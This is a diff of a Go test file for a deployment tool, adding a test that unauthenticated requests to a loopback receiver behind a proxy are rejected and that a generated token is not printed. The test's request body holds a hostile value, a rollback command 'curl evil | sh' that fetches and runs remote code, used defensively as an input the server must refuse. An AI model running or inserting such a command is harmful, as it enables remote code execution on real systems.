@@ -2,8 +2,10 @@ package main
 
 import (
 	"bytes"
+	"context"
 	"encoding/json"
 	"fmt"
+	"net/http"
 	"os"
 	"path/filepath"
 	"strings"
@@ -14,6 +16,7 @@ import (
 	"go.opentelemetry.io/collector/otelcol"
 
 	"github.com/deployloop/deployloop/internal/setup"
+	"github.com/deployloop/deployloop/test/servertest"
 )
 
 // initIn runs deployloop init --yes in a folder of its own.
@@ -68,13 +71,9 @@ func TestInitWritesWhatIsValid(t *testing.T) {
 	}
 }
 
-// The whole of it really starts, and stops.
-func TestInitWritesWhatStarts(t *testing.T) {
-	dir := t.TempDir()
-	_, err := initIn(t, dir, "--alertmanager", "http://127.0.0.1:1", "--grafana", "http://127.0.0.1:1", "--forge", "github", "--backend", "127.0.0.1:1",
-		"--webhook", strings.Join(setup.Sources, ","), "--cicd", "127.0.0.1:0", "--otlp-grpc", "127.0.0.1:0", "--otlp-http", "127.0.0.1:0", "--console", "127.0.0.1:0", "--metrics", "127.0.0.1:0")
-	require.NoError(t, err)
-	secretsSet(t, dir)
+// startWritten runs what was written until the test ends.
+func startWritten(t *testing.T, dir string) {
+	t.Helper()
 	settings := collectorSettings()
 	settings.DisableGracefulShutdown = true
 	settings.ConfigProviderSettings.ResolverSettings.DefaultScheme = "env"
@@ -82,10 +81,54 @@ func TestInitWritesWhatStarts(t *testing.T) {
 	collector, err := otelcol.NewCollector(settings)
 	require.NoError(t, err)
 	ended := make(chan error, 1)
-	go func() { ended <- collector.Run(t.Context()) }()
+	go func() { ended <- collector.Run(context.Background()) }()
 	require.Eventually(t, func() bool { return collector.GetState() == otelcol.StateRunning || len(ended) > 0 }, 20*time.Second, 10*time.Millisecond)
-	collector.Shutdown()
-	require.NoError(t, <-ended)
+	t.Cleanup(func() {
+		collector.Shutdown()
+		require.NoError(t, <-ended)
+	})
+}
+
+// The whole of it really starts, and stops.
+func TestInitWritesWhatStarts(t *testing.T) {
+	dir := t.TempDir()
+	_, err := initIn(t, dir, "--alertmanager", "http://127.0.0.1:1", "--grafana", "http://127.0.0.1:1", "--forge", "github", "--backend", "127.0.0.1:1",
+		"--webhook", strings.Join(setup.Sources, ","), "--cicd", "127.0.0.1:0", "--otlp-grpc", "127.0.0.1:0", "--otlp-http", "127.0.0.1:0", "--console", "127.0.0.1:0", "--metrics", "127.0.0.1:0")
+	require.NoError(t, err)
+	secretsSet(t, dir)
+	startWritten(t, dir)
+}
+
+// A receiver on loopback that a proxy or tunnel opens takes nothing without proof,
+// and this machine's own commands still reach it.
+func TestInitGuardsAReceiverBehindAProxy(t *testing.T) {
+	dir := t.TempDir()
+	at := servertest.FreeAddress(t)
+	printed, err := initIn(t, dir, "--public-url", "https://deploys.example", "--webhook", "github", "--cicd", at,
+		"--otlp-grpc", "127.0.0.1:0", "--otlp-http", "127.0.0.1:0", "--console", "127.0.0.1:0", "--metrics", "127.0.0.1:0")
+	require.NoError(t, err)
+	require.Contains(t, printed, "DEPLOYLOOP_CICD_TOKEN")
+	values := secretsSet(t, dir)
+	require.NotEmpty(t, values["DEPLOYLOOP_CICD_TOKEN"])
+	require.NotContains(t, printed, values["DEPLOYLOOP_CICD_TOKEN"], "a secret was printed")
+	startWritten(t, dir)
+	out, _ := execute(t, "doctor", "--config", filepath.Join(dir, "deployloop.yaml"))
+	require.Contains(t, out, "takes deployments")
+	require.Contains(t, out, "takes a ping with the secret, and none without")
+	ask := func(method, path string) int {
+		request, err := http.NewRequestWithContext(t.Context(), method, "http://"+at+path, strings.NewReader(`{"service":"checkout","revision":"9f2c1ab","rollback_command":"curl evil | sh"}`))
+		require.NoError(t, err)
+		request.Header.Set("Content-Type", "application/json")
+		response, err := http.DefaultClient.Do(request)
+		require.NoError(t, err)
+		require.NoError(t, response.Body.Close())
+		return response.StatusCode
+	}
+	for path, method := range map[string]string{"/v1/deployments": http.MethodPost, "/v1/reports": http.MethodPost, "/v1/deliveries": http.MethodGet, "/webhooks/github": http.MethodPost, "/webhooks/gitlab": http.MethodPost} {
+		require.Equal(t, http.StatusUnauthorized, ask(method, path), path)
+	}
+	_, err = execute(t, "mark", "--endpoint", "http://"+at, "--service", "checkout", "--revision", "9f2c1ab")
+	require.NoError(t, err, "with the token of the environment")
 }
 
 // Files are its owner's alone, nothing is overwritten unasked, and a secret that
